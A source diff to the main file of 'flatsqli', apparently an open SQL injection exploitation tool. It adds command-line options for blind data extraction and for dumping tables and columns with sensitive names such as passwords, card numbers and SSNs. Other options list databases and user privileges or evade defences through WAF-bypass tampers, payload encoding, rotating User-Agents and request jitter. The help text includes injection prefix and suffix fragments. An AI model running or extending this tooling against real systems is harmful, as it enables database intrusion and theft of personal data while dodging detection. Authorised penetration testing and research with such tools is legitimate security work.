@@ -1,17 +1,29 @@
 package main
 
 import (
+	"encoding/json"
+	"errors"
 	"flag"
 	"fmt"
+	"net/url"
 	"os"
+	"os/signal"
+	"slices"
+	"sort"
 	"strings"
+	"syscall"
+	"text/tabwriter"
+	"text/template"
+	"time"
 
 	"github.com/morkin1792/flatsqli/internal/calibrator"
 	"github.com/morkin1792/flatsqli/internal/detector"
 	"github.com/morkin1792/flatsqli/internal/extractor"
 	"github.com/morkin1792/flatsqli/internal/finder"
+	"github.com/morkin1792/flatsqli/internal/fingerprint"
 	"github.com/morkin1792/flatsqli/internal/output"
 	"github.com/morkin1792/flatsqli/internal/parser"
+	"github.com/morkin1792/flatsqli/internal/payloads"
 	"github.com/morkin1792/flatsqli/internal/requester"
 	"github.com/morkin1792/flatsqli/internal/scanner"
 	"github.com/morkin1792/flatsqli/internal/storage"
@@ -23,32 +35,201 @@ var (
 
 	generalOptionsHelp = `General Options:
   -o, -output <file>       Output file path (markdown format)
+  -append, -output-append  Append to the output file instead of overwriting it
   -H, -header <header>     Custom header (can be used multiple times)
+  -headers-file <file>     Headers to add, one "Name: Value" per line (# comments, -H wins)
   -proxy <url>             Proxy URL (e.g., http://127.0.0.1:8080)
   -timeout <seconds>       Request timeout in seconds (default: 10)
+  -timeout-ms <ms>         Request timeout in milliseconds, overrides -timeout
+  -connect-timeout <ms>    Separate timeout for TCP connect and TLS handshake
   -ph, -plain-http         Use plain HTTP instead of HTTPS
+  -follow-redirects        Follow redirects and fingerprint the final response
+  -max-redirects <n>       Max redirects to follow (default: 10)
+  -retries <n>             Retries on network errors (default: 2)
+  -retry-backoff <ms>      Base retry backoff, exponential with jitter (default: 500)
+  -max-requests <n>        Hard cap on requests sent (default: 0 = unlimited)
+  -max-body-size <bytes>   Bytes read from each response body (default: 4194304, 0 = unlimited)
+  -http-version <1.1|2>    Force the HTTP protocol version (h2c over plain HTTP)
+  -client-cert <file>      Client certificate (PEM) for mTLS
+  -client-key <file>       Client private key (PEM) for mTLS
+  -ca-cert <file>          Verify the server against this CA (PEM)
+  -keep-alive              Reuse connections (faster, but stale responses are possible)
+  -log-file <file>         Append every request/response to a JSONL log
+  -jitter <ms>             Random delay in [0, ms) before each request (default: 0)
+  -adaptive-backoff        Slow down with escalating sleeps while the target keeps erroring
+  -ua <string>             User-Agent for every request (-H User-Agent: still wins)
+  -random-ua               Rotate realistic browser User-Agents per request
   -v, -verbose             Enable verbose output
+  -quiet                   Only print errors and results (results go to stdout)
+  -no-color                Disable colored output (off anyway when stderr is not a terminal)
 `
 )
 
+// HTTPOptions holds the HTTP settings shared by exploit and detect modes
+type HTTPOptions struct {
+	Timeout         int
+	TimeoutMs       int
+	ConnectTimeout  int
+	Proxy           string
+	UseHTTP         bool
+	Headers         headerList
+	HeadersFile     string
+	FollowRedirects bool
+	MaxRedirects    int
+	Retries         int
+	RetryBackoff    int
+	MaxRequests     int
+	MaxBodySize     int
+	HTTPVersion     string
+	ClientCert      string
+	ClientKey       string
+	CACert          string
+	KeepAlive       bool
+	LogFile         string
+	Jitter          int
+	AdaptiveBackoff bool
+	UserAgent       string
+	RandomUA        bool
+	logger          *requester.TransactionLogger
+}
+
+// openLogger opens the -log-file transaction log, shared by every requester
+func (o *HTTPOptions) openLogger() error {
+	if o.LogFile == "" {
+		return nil
+	}
+	logger, err := requester.NewTransactionLogger(o.LogFile)
+	if err != nil {
+		return err
+	}
+	o.logger = logger
+	return nil
+}
+
+// loadHeadersFile merges the -headers-file headers in front of the -H ones.
+// Blank lines, # comments and HTTP/2 pseudo-headers (":authority: ...", as
+// copied from browser devtools) are skipped. A header set twice keeps its last
+// value, so -H overrides the file.
+func (o *HTTPOptions) loadHeadersFile() error {
+	if o.HeadersFile == "" {
+		return nil
+	}
+	data, err := os.ReadFile(o.HeadersFile)
+	if err != nil {
+		return fmt.Errorf("failed to read headers file: %w", err)
+	}
+
+	var headers headerList
+	for i, line := range strings.Split(string(data), "\n") {
+		line = strings.TrimSpace(line)
+		if line == "" || strings.HasPrefix(line, "#") || strings.HasPrefix(line, ":") {
+			continue
+		}
+		name, _, found := strings.Cut(line, ":")
+		if !found || strings.TrimSpace(name) == "" {
+			return fmt.Errorf("headers file line %d: expected \"Name: Value\", got %q", i+1, line)
+		}
+		headers = append(headers, line)
+	}
+	o.Headers = dedupeHeaders(append(headers, o.Headers...))
+	return nil
+}
+
+// dedupeHeaders keeps the last occurrence of each header name (case-insensitive)
+func dedupeHeaders(headers headerList) headerList {
+	last := make(map[string]int)
+	for i, h := range headers {
+		name, _, _ := strings.Cut(h, ":")
+		last[strings.ToLower(strings.TrimSpace(name))] = i
+	}
+
+	var result headerList
+	for i, h := range headers {
+		name, _, _ := strings.Cut(h, ":")
+		if last[strings.ToLower(strings.TrimSpace(name))] == i {
+			result = append(result, h)
+		}
+	}
+	return result
+}
+
 // ExploitConfig holds exploit mode configuration
 type ExploitConfig struct {
+	HTTPOptions
 	RequestFile       string
+	URL               string // with Data and Method, an inline alternative to RequestFile
+	Data              string
+	Method            string
 	Verbose           bool
 	Database          string
 	Query             string
-	Timeout           int
-	Proxy             string
 	MaxLen            int
+	MinLen            int
 	FindColumn        string
 	FindImportantData bool
 	FindTableLimit    int
 	FindRowLimit      int
 	OutputFile        string
 	DumpTable         string
-	UseHTTP           bool
+	Columns           string
 	MatchString       string
-	Headers           headerList
+	MatchHeader       string
+	MatchHeaderValue  string
+	CompareMode       string
+	DiffMode          bool
+	TrueStatus        string
+	FalseStatus       string
+	Charset           string
+	ValueCharset      string
+	Type              string
+	Hex               bool
+	NoCache           bool
+	VerifyCache       bool
+	ListDatabases     bool
+	Privileges        bool
+	Schema            string
+	VerifySample      int
+	PurgeStale        bool
+	OutputFormat      string
+	ErrorAsFalse      bool
+	ErrorRetry        int
+	UnknownRetry      int
+	SingleMarker      bool
+	Encode            string
+	Prefix            string
+	Tamper            string
+	Suffix            string
+	DataType          string
+	DataValue         string
+	MarkerValues      headerList
+	ConcatRows        bool
+	Timing            bool
+	StrictFingerprint bool
+	Invert            bool
+	WAFBypass         bool
+	AppendOutput      bool
+	ObserveFile       string
+	BaselineFile      string
+	MaxRowsTotal      int
+	ExactCount        bool
+	MaxColumns        int
+	MaxTableScan      int
+	BlobColumns       string
+	BlobDir           string
+	Interactive       bool
+	TemplateFile      string
+	SelfCheck         int
+	KeepLength        bool
+	Quiet             bool
+	NoColor           bool
+	Stream            bool
+
+	request      *parser.ParsedRequest // marked request handed over by detect -exploit
+	template     *template.Template    // parsed TemplateFile
+	valueCharset payloads.ValueCharset // parsed ValueCharset
+	valueType    payloads.ValueType    // parsed Type
+	versionMajor int                   // parsed database version, 0 if unknown
+	versionMinor int
 }
 
 // headerList is a custom type to allow multiple -H flags
@@ -65,14 +246,27 @@ func (h *headerList) Set(value string) error {
 
 // DetectConfig holds detect mode configuration
 type DetectConfig struct {
+	HTTPOptions
+	URL               string
 	URLsFile          string
 	RequestsDirectory string
 	Verbose           bool
-	Timeout           int
-	Proxy             string
 	OutputFile        string
-	UseHTTP           bool
-	Headers           headerList
+	AppendOutput      bool
+	FuzzHeaders       bool
+	PathFuzz          bool
+	Method            string
+	Data              string
+	StopOnFirst       bool
+	Contexts          bool
+	Exploit           bool
+	IncludeParams     string
+	Quiet             bool
+	NoColor           bool
+	ExcludeParams     string
+	Seeds             headerList
+
+	seeds map[string]string // parsed Seeds
 }
 
 func main() {
@@ -81,11 +275,25 @@ func main() {
 		os.Exit(1)
 	}
 
+	// Write pending cache changes if interrupted (e.g. Ctrl+C during a dump)
+	interrupts := make(chan os.Signal, 1)
+	signal.Notify(interrupts, os.Interrupt, syscall.SIGTERM)
+	go func() {
+		<-interrupts
+		ui.ProgressDone()
+		ui.Warning("Interrupted, saving cache...")
+		exit(130)
+	}()
+
 	switch os.Args[1] {
 	case "exploit":
 		runExploitMode()
 	case "detect":
 		runDetectMode()
+	case "cache":
+		runCacheMode()
+	case "replay":
+		runReplayMode()
 	case "-h", "--help", "help":
 		printMainUsage()
 	case "-v", "--version", "version":
@@ -95,6 +303,58 @@ func main() {
 		printMainUsage()
 		os.Exit(1)
 	}
+
+	if err := storage.Flush(); err != nil {
+		ui.Warning("Could not save cache: %v", err)
+	}
+}
+
+// splitList splits a comma-separated flag value, dropping empty items
+func splitList(value string) []string {
+	var items []string
+	for _, item := range strings.Split(value, ",") {
+		if item = strings.TrimSpace(item); item != "" {
+			items = append(items, item)
+		}
+	}
+	return items
+}
+
+// parseMarkerValues parses name=value pairs, names must match a named marker of the request
+func parseMarkerValues(pairs []string, names []string) (map[string]string, error) {
+	values := make(map[string]string)
+	for _, pair := range pairs {
+		name, value, ok := strings.Cut(pair, "=")
+		if !ok || name == "" {
+			return nil, fmt.Errorf("invalid marker value %q, expected name=value", pair)
+		}
+		if !slices.Contains(names, name) {
+			return nil, fmt.Errorf("no <INJECT:%s> marker in the request", name)
+		}
+		values[name] = value
+	}
+	return values, nil
+}
+
+// parseSeeds parses the name=value pairs of -seed
+func parseSeeds(pairs []string) (map[string]string, error) {
+	seeds := make(map[string]string)
+	for _, pair := range pairs {
+		name, value, ok := strings.Cut(pair, "=")
+		if !ok || name == "" {
+			return nil, fmt.Errorf("invalid seed %q, expected name=value", pair)
+		}
+		seeds[name] = value
+	}
+	return seeds, nil
+}
+
+// exit flushes pending cache changes before terminating the program
+func exit(code int) {
+	if err := storage.Flush(); err != nil {
+		ui.Warning("Could not save cache: %v", err)
+	}
+	os.Exit(code)
 }
 
 func printMainUsage() {
@@ -104,6 +364,8 @@ func printMainUsage() {
 Commands:
   exploit    Exploit a confirmed SQLi vulnerability to extract data
   detect     Detect potential SQLi vulnerabilities in URLs or requests
+  replay     Re-send the requests of a -log-file log and report responses that changed
+  cache      List, show or remove what is cached per host (list, show, rm, clear)
 
 Run 'flatsqli <command> --help' for more information on a specific command.
 
@@ -116,19 +378,113 @@ Examples:
 `, generalOptionsHelp)
 }
 
-func runExploitMode() {
+// registerHTTPFlags registers the HTTP flags shared by exploit and detect modes
+func registerHTTPFlags(fs *flag.FlagSet, opts *HTTPOptions) {
+	fs.StringVar(&opts.Proxy, "proxy", "", "Proxy URL")
+	fs.IntVar(&opts.Timeout, "timeout", 10, "Request timeout in seconds")
+	fs.IntVar(&opts.TimeoutMs, "timeout-ms", 0, "Request timeout in milliseconds, overrides -timeout")
+	fs.IntVar(&opts.ConnectTimeout, "connect-timeout", 0, "Timeout in milliseconds for TCP connect and TLS handshake")
+	fs.BoolVar(&opts.UseHTTP, "ph", false, "")
+	fs.BoolVar(&opts.UseHTTP, "plain-http", false, "Use plain HTTP instead of HTTPS")
+	fs.Var(&opts.Headers, "H", "Custom header (can be used multiple times)")
+	fs.Var(&opts.Headers, "header", "Custom header (can be used multiple times)")
+	fs.StringVar(&opts.HeadersFile, "headers-file", "", "File with one header per line, merged before -H")
+	fs.BoolVar(&opts.FollowRedirects, "follow-redirects", false, "Follow redirects and fingerprint the final response")
+	fs.IntVar(&opts.MaxRedirects, "max-redirects", 10, "Max redirects to follow")
+	fs.IntVar(&opts.Retries, "retries", 2, "Retries on network errors")
+	fs.IntVar(&opts.RetryBackoff, "retry-backoff", 500, "Base retry backoff in milliseconds (exponential with jitter)")
+	fs.IntVar(&opts.MaxRequests, "max-requests", 0, "Hard cap on requests sent (0 = unlimited)")
+	fs.IntVar(&opts.MaxBodySize, "max-body-size", requester.DefaultMaxBodySize, "Bytes read from each response body, the rest is dropped (0 = unlimited)")
+	fs.StringVar(&opts.HTTPVersion, "http-version", "", "Force the HTTP protocol version (1.1 or 2)")
+	fs.StringVar(&opts.ClientCert, "client-cert", "", "Client certificate (PEM) for mTLS")
+	fs.StringVar(&opts.ClientKey, "client-key", "", "Client private key (PEM) for mTLS")
+	fs.StringVar(&opts.CACert, "ca-cert", "", "Verify the server against this CA (PEM)")
+	fs.BoolVar(&opts.KeepAlive, "keep-alive", false, "Reuse connections (faster, but stale responses are possible)")
+	fs.StringVar(&opts.LogFile, "log-file", "", "Append every request/response to a JSONL log")
+	fs.IntVar(&opts.Jitter, "jitter", 0, "Random delay in milliseconds added before each request (0 = none)")
+	fs.BoolVar(&opts.AdaptiveBackoff, "adaptive-backoff", false, "Insert escalating sleeps while the error rate of the target is high")
+	fs.StringVar(&opts.UserAgent, "ua", "", "User-Agent for every request")
+	fs.BoolVar(&opts.RandomUA, "random-ua", false, "Rotate realistic browser User-Agents per request")
+}
+
+// newRequester creates a requester configured with the shared HTTP options
+func newRequester(req *parser.ParsedRequest, opts HTTPOptions, verbose bool) (*requester.Requester, error) {
+	httpRequester, err := requester.New(req, opts.Timeout, opts.Proxy, verbose, opts.logger)
+	if err != nil {
+		return nil, err
+	}
+
+	// Set custom headers if provided
+	if len(opts.Headers) > 0 {
+		httpRequester.SetHeaders(opts.Headers)
+	}
+
+	httpRequester.SetRetryPolicy(opts.Retries, time.Duration(opts.RetryBackoff)*time.Millisecond)
+	httpRequester.SetMaxRequests(opts.MaxRequests)
+	httpRequester.SetMaxBodySize(int64(opts.MaxBodySize))
+	httpRequester.SetKeepAlive(opts.KeepAlive)
+	httpRequester.SetJitter(time.Duration(opts.Jitter) * time.Millisecond)
+	httpRequester.SetAdaptiveBackoff(opts.AdaptiveBackoff)
+	httpRequester.SetUserAgent(opts.UserAgent)
+	httpRequester.SetRandomUserAgent(opts.RandomUA)
+	httpRequester.SetTimeouts(time.Duration(opts.TimeoutMs)*time.Millisecond, time.Duration(opts.ConnectTimeout)*time.Millisecond)
+
+	if err := httpRequester.SetHTTPVersion(opts.HTTPVersion); err != nil {
+		return nil, err
+	}
+
+	// Client certificate for mTLS (key defaults to the certificate file for combined PEMs)
+	if opts.ClientCert != "" {
+		keyFile := opts.ClientKey
+		if keyFile == "" {
+			keyFile = opts.ClientCert
+		}
+		if err := httpRequester.SetClientCertificate(opts.ClientCert, keyFile); err != nil {
+			return nil, err
+		}
+	} else if opts.ClientKey != "" {
+		return nil, fmt.Errorf("-client-key requires -client-cert")
+	}
+
+	if opts.CACert != "" {
+		if err := httpRequester.SetCACert(opts.CACert); err != nil {
+			return nil, err
+		}
+	}
+
+	// Follow redirects if requested (same policy for calibration and extraction)
+	if opts.FollowRedirects {
+		httpRequester.SetFollowRedirects(opts.MaxRedirects)
+	}
+
+	return httpRequester, nil
+}
+
+// newExploitFlags returns the exploit flag set, bound to config. Registering
+// the flags sets their defaults in config.
+func newExploitFlags(config *ExploitConfig) *flag.FlagSet {
 	exploitCmd := flag.NewFlagSet("exploit", flag.ExitOnError)
-	var config ExploitConfig
 
 	// Exploit-specific flags
 	exploitCmd.StringVar(&config.RequestFile, "rf", "", "")
 	exploitCmd.StringVar(&config.RequestFile, "request-file", "", "Path to request file with injection marker")
+	exploitCmd.StringVar(&config.URL, "u", "", "")
+	exploitCmd.StringVar(&config.URL, "url", "", "Target URL, instead of a request file (the marker may be in the URL or -data)")
+	exploitCmd.StringVar(&config.Data, "data", "", "Form body sent to -u")
+	exploitCmd.StringVar(&config.Method, "method", "", "HTTP method for -u (default: GET, or POST with -data)")
 	exploitCmd.StringVar(&config.Database, "db", "", "")
-	exploitCmd.StringVar(&config.Database, "database", "", "Database type (mysql, mssql, oracle, postgres)")
+	exploitCmd.StringVar(&config.Database, "database", "", "Database type (mysql, mssql, oracle, postgres, db2)")
 	exploitCmd.StringVar(&config.Query, "q", "", "")
 	exploitCmd.StringVar(&config.Query, "query", "", "Custom SQL query to extract")
+	exploitCmd.BoolVar(&config.ListDatabases, "dbs", false, "")
+	exploitCmd.BoolVar(&config.ListDatabases, "list-databases", false, "List the databases (schemas) visible to the user")
+	exploitCmd.BoolVar(&config.Privileges, "privs", false, "List the privileges and roles of the current user")
+	exploitCmd.StringVar(&config.Schema, "schema", "", "Search and dump tables of this schema/database instead of the current one")
 	exploitCmd.IntVar(&config.MaxLen, "ml", 70, "")
 	exploitCmd.IntVar(&config.MaxLen, "maxlen", 70, "Max chars to extract (0=no limit)")
+	exploitCmd.IntVar(&config.MaxLen, "max-length", 70, "Max chars to extract (0=no limit)")
+	exploitCmd.IntVar(&config.MinLen, "minlen", 0, "")
+	exploitCmd.IntVar(&config.MinLen, "min-length", 0, "Known minimum length of extracted values")
 	exploitCmd.StringVar(&config.FindColumn, "fc", "", "")
 	exploitCmd.StringVar(&config.FindColumn, "find-column", "", "Search terms separated by comma (e.g. 'pass,user,email')")
 	exploitCmd.BoolVar(&config.FindImportantData, "fid", false, "")
@@ -137,26 +493,79 @@ func runExploitMode() {
 	exploitCmd.IntVar(&config.FindTableLimit, "limit-tables", 5, "Max tables to search")
 	exploitCmd.IntVar(&config.FindRowLimit, "lr", 3, "")
 	exploitCmd.IntVar(&config.FindRowLimit, "limit-rows", 3, "Rows to extract per table")
+	exploitCmd.BoolVar(&config.ExactCount, "exact-count", false, "Binary search exact row counts instead of coarse thresholds")
+	exploitCmd.IntVar(&config.MaxRowsTotal, "max-rows-total", 0, "Max rows extracted across all tables with -fid/-fc (0 = no limit)")
+	exploitCmd.IntVar(&config.MaxColumns, "max-columns", 50, "Max columns enumerated per table (0 = no limit)")
+	exploitCmd.IntVar(&config.MaxTableScan, "max-table-scan", 100, "Max column matches scanned per search term (0 = no limit)")
+	exploitCmd.StringVar(&config.BlobColumns, "blob-columns", "", "Columns extracted in full, values over -maxlen are saved to files")
+	exploitCmd.StringVar(&config.BlobDir, "blob-dir", "blobs", "Directory for -blob-columns files")
 	exploitCmd.StringVar(&config.DumpTable, "dt", "", "")
-	exploitCmd.StringVar(&config.DumpTable, "dump-table", "", "Dump rows from a specific table")
+	exploitCmd.StringVar(&config.DumpTable, "dump-table", "", "Dump rows from specific tables (comma-separated)")
+	exploitCmd.StringVar(&config.Columns, "columns", "", "Columns to dump with a single -dt table, skips column enumeration (e.g. 'id,user,pass')")
 	exploitCmd.StringVar(&config.MatchString, "cs", "", "")
 	exploitCmd.StringVar(&config.MatchString, "calibration-string", "", "String to find in response for differentiation")
+	exploitCmd.StringVar(&config.MatchHeader, "match-header", "", "Response header whose value tells TRUE and FALSE apart")
+	exploitCmd.StringVar(&config.MatchHeaderValue, "match-header-value", "", "Only compare whether the -match-header header contains this value")
+	exploitCmd.StringVar(&config.CompareMode, "compare-mode", "auto", "How strictly responses must match: auto, status-only, wordcount, content-length, body-hash")
+	exploitCmd.BoolVar(&config.DiffMode, "diff-mode", false, "Classify responses by content similarity to the TRUE and FALSE pages")
+	exploitCmd.StringVar(&config.TrueStatus, "true-status", "", "Status codes meaning TRUE, e.g. 200 or 200-299,302 (decides by status alone)")
+	exploitCmd.StringVar(&config.FalseStatus, "false-status", "", "Status codes meaning FALSE, e.g. 500 (decides by status alone)")
+	exploitCmd.StringVar(&config.Charset, "charset", "ascii", "Character range to extract (ascii, latin1, bytes)")
+	exploitCmd.StringVar(&config.ValueCharset, "value-charset", "", "Characters extracted values are made of, in every column (hex, digits, lower, upper, alnum)")
+	exploitCmd.StringVar(&config.Type, "type", "string", "How values are read: string, int (searched as numbers) or auto")
+	exploitCmd.BoolVar(&config.Hex, "hex", false, "Extract values as hex and decode them (binary and multibyte safe)")
+	exploitCmd.BoolVar(&config.NoCache, "no-cache", false, "Do not read or write the storage cache")
+	exploitCmd.BoolVar(&config.VerifyCache, "verify-cache", false, "Re-probe cached rows of this host and report values that changed")
+	exploitCmd.IntVar(&config.VerifySample, "verify-sample", 3, "Cached rows re-probed per table with -verify-cache (0 = all)")
+	exploitCmd.BoolVar(&config.PurgeStale, "purge-stale", false, "Remove tables whose cached rows changed from the cache (with -verify-cache)")
+	exploitCmd.BoolVar(&config.ErrorAsFalse, "error-as-false", false, "Treat ERROR responses as FALSE during extraction")
+	exploitCmd.IntVar(&config.ErrorRetry, "error-retry", 2, "Retries for probes returning an ERROR response")
+	exploitCmd.IntVar(&config.UnknownRetry, "unknown-retry", 2, "Retries for probes whose response matches no fingerprint (0 = read it as FALSE)")
+	exploitCmd.BoolVar(&config.SingleMarker, "single-marker", false, "Replace only the first marker occurrence")
+	exploitCmd.StringVar(&config.Prefix, "prefix", "", "Prepended to every payload before the marker is replaced")
+	exploitCmd.StringVar(&config.Suffix, "suffix", "", "Appended to every payload before the marker is replaced")
+	exploitCmd.StringVar(&config.DataType, "data-type", "", "What the marker stands for: condition, numeric, string, numeric-or or string-or (default: probe)")
+	exploitCmd.StringVar(&config.DataValue, "data-value", "", "Original value of the marker, kept by the numeric and string forms (default: 1 for numeric)")
+	exploitCmd.Var(&config.MarkerValues, "mv", "")
+	exploitCmd.Var(&config.MarkerValues, "marker-value", "Fixed value of a named marker, name=value (can be used multiple times)")
+	exploitCmd.StringVar(&config.Tamper, "tamper", "", "Comma-separated payload tampers applied in order (e.g. space2comment,between)")
+	exploitCmd.StringVar(&config.Encode, "encode", "", "Encode the payload before substitution (base64, hex, url, double-url)")
+	exploitCmd.BoolVar(&config.ConcatRows, "concat", false, "Extract each row with a single concatenated query")
+	exploitCmd.BoolVar(&config.Timing, "timing", false, "Also compare response time classes in fingerprints")
+	exploitCmd.BoolVar(&config.KeepLength, "keep-content-length", false, "Send the request file's Content-Length as is instead of recomputing it")
+	exploitCmd.IntVar(&config.SelfCheck, "self-check", 8, "Re-verify every nth extracted char with an equality probe (0 = off)")
+	exploitCmd.BoolVar(&config.StrictFingerprint, "strict-fingerprint", false, "Also compare the set of words in fingerprints")
+	exploitCmd.BoolVar(&config.Invert, "invert", false, "Swap TRUE/FALSE responses (TRUE breaks the query, FALSE is the normal page)")
+	exploitCmd.BoolVar(&config.WAFBypass, "waf-bypass", false, "Retry blocked probes with obfuscated payloads")
+	exploitCmd.BoolVar(&config.Interactive, "interactive", false, "Open a prompt to run queries after calibration")
+	exploitCmd.StringVar(&config.ObserveFile, "second-order", "", "Request file sent after each injection, whose response is fingerprinted")
+	exploitCmd.StringVar(&config.BaselineFile, "baseline-request", "", "Known-FALSE request file sent twice to mask dynamic content")
 
 	// Shared flags
 	exploitCmd.BoolVar(&config.Verbose, "v", false, "")
 	exploitCmd.BoolVar(&config.Verbose, "verbose", false, "Enable verbose output")
-	exploitCmd.StringVar(&config.Proxy, "proxy", "", "Proxy URL")
+	exploitCmd.BoolVar(&config.Quiet, "quiet", false, "Only print errors and results")
+	exploitCmd.BoolVar(&config.NoColor, "no-color", false, "Disable colored output")
+	exploitCmd.BoolVar(&config.Stream, "stream", false, "Print each extracted row to stdout as a tab-separated line")
 	exploitCmd.StringVar(&config.OutputFile, "o", "", "")
 	exploitCmd.StringVar(&config.OutputFile, "output", "", "Output file path")
-	exploitCmd.IntVar(&config.Timeout, "timeout", 10, "Request timeout in seconds")
-	exploitCmd.BoolVar(&config.UseHTTP, "ph", false, "")
-	exploitCmd.BoolVar(&config.UseHTTP, "plain-http", false, "Use plain HTTP instead of HTTPS")
-	exploitCmd.Var(&config.Headers, "H", "Custom header (can be used multiple times)")
-	exploitCmd.Var(&config.Headers, "header", "Custom header (can be used multiple times)")
+	exploitCmd.BoolVar(&config.AppendOutput, "append", false, "")
+	exploitCmd.BoolVar(&config.AppendOutput, "output-append", false, "Append to the output file instead of overwriting it")
+	exploitCmd.StringVar(&config.OutputFormat, "of", finder.OutputMarkdown, "")
+	exploitCmd.StringVar(&config.OutputFormat, "output-format", finder.OutputMarkdown, "Output file format (md, csv)")
+	exploitCmd.StringVar(&config.TemplateFile, "template", "", "Go text/template file used to render the output file")
+	registerHTTPFlags(exploitCmd, &config.HTTPOptions)
+	return exploitCmd
+}
+
+func runExploitMode() {
+	var config ExploitConfig
+	exploitCmd := newExploitFlags(&config)
 
 	exploitCmd.Usage = func() {
 		ui.Banner(version)
 		fmt.Fprintf(os.Stderr, `Usage: flatsqli exploit -rf <request-file> [options]
+       flatsqli exploit -u <url> [-data <body>] [options]
 
 The request file MUST contain an injection marker. The marker should be placed
 where the boolean result changes the server response (i.e. CASE WHEN or IF).
@@ -170,35 +579,162 @@ Example requests with marker:
 
 Different responses MUST be triggered when the conditions are true and false.
 Acceptable markers (same function): <PAYLOAD>, <FUZZ>, <INJECT>
+Every occurrence of the marker receives the same payload (see -single-marker).
+Named markers (e.g. <INJECT:cols>) also receive the payload unless given a fixed
+value with -marker-value cols=3.
 
 Exploit Options:
-  -rf, -request-file <file>      Path to request file with injection marker
+  -rf, -request-file <file>      Path to request file with injection marker ("-" reads stdin)
+  -u, -url <url>                 Target URL instead of a request file, e.g. 'https://host/item?id=<PAYLOAD>'
+  -data <body>                   Form body sent to -u, e.g. 'user=admin&pass=<PAYLOAD>'
+  -method <method>               HTTP method for -u (default: GET, POST with -data)
   -cs, -calibration-string <str> String to indicate TRUE/FALSE differentiation
+  -match-header <name>           Also compare this response header, for targets answering with the
+                                 same body and the result in a header (e.g. X-Result)
+  -match-header-value <str>      Compare whether the -match-header header contains this value,
+                                 instead of its whole value
+  -compare-mode <mode>           How strictly responses must match the calibration: auto (status, word
+                                 count, then length within 5%%), status-only, wordcount, content-length
+                                 or body-hash (exact body). Stricter modes avoid false matches, looser
+                                 ones stop flapping (default: auto)
+  -diff-mode                     Classify each response by the calibration page (TRUE, FALSE or ERROR)
+                                 its content is closest to, with a threshold learned at calibration.
+                                 For large pages where TRUE and FALSE differ by a few bytes
+  -true-status <codes>           Status codes meaning TRUE (e.g. 200 or 200-299,302), deciding by
+                                 status alone. Any other status is FALSE unless -false-status is set
+  -false-status <codes>          Status codes meaning FALSE (e.g. 500), the counterpart of -true-status
   -fid, -find-important-data     Find tables with sensitive columns
   -fc, -find-column <terms>      Search terms separated by comma (e.g. 'credit_card,ssn')
-  -dt, -dump-table <table>       Dump rows from a specific table
+  -dt, -dump-table <t1,t2,...>   Dump rows from specific tables, each its own section of -o
+                                 (its own file with -of csv)
+  -columns <c1,c2,...>           Columns to dump with a single -dt table (skips column enumeration)
   -lt, -limit-tables <n>         Max tables to search (default: 5)
   -lr, -limit-rows <n>           Rows to extract per table (default: 3)
-  -db, -database <type>          Database type (mysql, mssql, oracle, postgres)
+  -max-rows-total <n>            Max rows extracted across all tables with -fid/-fc, most relevant
+                                 and smallest tables first (default: 0, no limit)
+  -exact-count                   Get exact row counts instead of 10/100/1K/... (more requests)
+  -max-columns <n>               Max columns enumerated per table (default: 50, 0=no limit)
+  -max-table-scan <n>            Max column matches scanned per search term (default: 100, 0=no limit)
+  -blob-columns <c1,c2,...>      Extract these columns in full (ignoring -maxlen). Values longer than
+                                 -maxlen are written to -blob-dir and the cell references the file
+  -blob-dir <dir>                Directory for -blob-columns files (default: blobs)
+  -db, -database <type>          Database type (mysql, mssql, oracle, postgres, db2)
   -q, -query <sql>               Custom SQL query to extract
+  -dbs, -list-databases          List the databases visible to the user (schemas on PostgreSQL,
+                                 Oracle and DB2)
+  -privs                         List the privileges and roles of the current user
+  -schema <name>                 Search and dump tables in this schema instead of the current one
+                                 (a database on MySQL/MSSQL, an owner on Oracle, see -dbs)
+  -interactive                   Open a prompt after calibration (queries, version, user, tables, dump...)
   -ml, -maxlen <n>               Max chars to extract (default: 70, 0=no limit)
+  -minlen, -min-length <n>       Known minimum length of extracted values (skips low-range probes)
+  -charset <set>                 Character range: ascii, latin1, bytes (default: ascii)
+  -value-charset <set>           Characters dumped values and -q results are made of: hex, digits,
+                                 lower, upper, alnum. Fewer requests per char, but chars outside
+                                 the set come out wrong. Applies to every dumped column, use it
+                                 with -dt -columns to dump only the columns that fit
+  -type <type>                   How dumped values and -q results are read: string (default),
+                                 int (binary-searched as numbers, far fewer requests for ids,
+                                 counts and prices) or auto (checks each value, 1 extra request)
+  -hex                           Extract values as hex (HEX(), RAWTOHEX...) and decode them.
+                                 Safe for binary and multibyte data, 2x the characters
+  -no-cache                      Do not read or write the cache (~/.flatsqli.json)
+  -verify-cache                  Re-probe the first char of cached cells and report drift
+  -verify-sample <n>             Cached rows checked per table (default: 3, 0=all)
+  -purge-stale                   With -verify-cache, remove drifted tables from the cache
+  -of, -output-format <fmt>      Output file format: md, csv (default: md)
+                                 With -fid/-fc, csv writes one <output>_<table>.csv per table
+  -stream                        Print each row to stdout as soon as it is extracted, as a
+                                 tab-separated line starting with the table name (tabs and
+                                 newlines in values escaped). Progress and tables stay on stderr
+  -template <file>               Render the output file with a Go text/template. It receives
+                                 .Target, .Database, .Version, .Generated and .Tables
+                                 (each with .TableName, .Columns, .Rows, .RowCount)
+  -error-as-false                Treat ERROR responses as FALSE during extraction
+  -error-retry <n>               Retries for probes returning ERROR (default: 2)
+  -unknown-retry <n>             Retries for probes whose response matches neither TRUE, FALSE nor
+                                 ERROR (e.g. a transient 503) before the char fails (default: 2,
+                                 0 reads them as FALSE)
+  -single-marker                 Replace only the first marker occurrence
+  -prefix <str>                  Prepended to every payload, e.g. "1') AND (" to close the context
+  -suffix <str>                  Appended to every payload, e.g. ")-- -" to comment the rest out
+  -data-type <type>              What the marker stands for: condition (default), numeric (id=<PAYLOAD>)
+                                 or string (name='<PAYLOAD>'). Without it, numeric and string
+                                 are probed when plain conditions can't differentiate. Both AND
+                                 the condition to the original value (see -data-value); numeric-or
+                                 and string-or select rows with OR instead, for values matching no
+                                 row, but then hit every row of an UPDATE or DELETE
+  -data-value <val>              Original value of the marker, e.g. 42 for id=42 (default: 1 for
+                                 numeric, empty for string)
+  -mv, -marker-value <name=val>  Fixed value of a named marker <INJECT:name> (repeatable)
+  -tamper <t1,t2,...>            Rewrite every payload with these tampers, in order: space2comment,
+                                 space2randomblank, randomcase, between (> and = as BETWEEN),
+                                 charencode (percent-encode every char)
+  -encode <enc>                  Encode the payload: base64, hex, url, double-url. base64/hex encode
+                                 the whole value, so the marker must be the entire parameter value
+  -concat                        Extract each row with one concatenated query (fewer requests)
+  -timing                        Also compare response time classes (<500ms, <1s, <2s, <4s, <8s)
